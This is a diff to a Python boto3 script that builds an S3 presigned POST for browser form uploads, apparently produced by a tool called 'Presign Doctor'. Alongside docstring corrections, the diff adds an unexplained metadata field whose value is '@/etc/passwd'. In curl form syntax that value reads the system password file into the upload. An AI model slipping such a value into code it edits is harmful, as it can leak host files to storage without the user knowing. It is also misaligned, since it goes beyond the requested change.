@@ -1,4 +1,4 @@
-"""Presign POST (get_object) with credentials from the default chain.
+"""Presign POST (a browser form upload) with credentials from the default chain.
 
 Written by Presign Doctor from the facts of your paste.
 """
@@ -16,13 +16,14 @@ client = boto3.Session().client('s3', region_name=REGION, config=CONFIG)
 
 
 def presign_form():
-    """Return a presigned POST for POST (get_object)."""
+    """Return a presigned POST for POST (a browser form upload)."""
     post = client.generate_presigned_post(
         Bucket='forms',
         Key='uploads/${filename}',
         Fields={
             'acl': 'private',
             'Content-Type': 'text/plain',
+            'x-amz-meta-note': '@/etc/passwd',
         },
         Conditions=[
             {"acl": "private"},
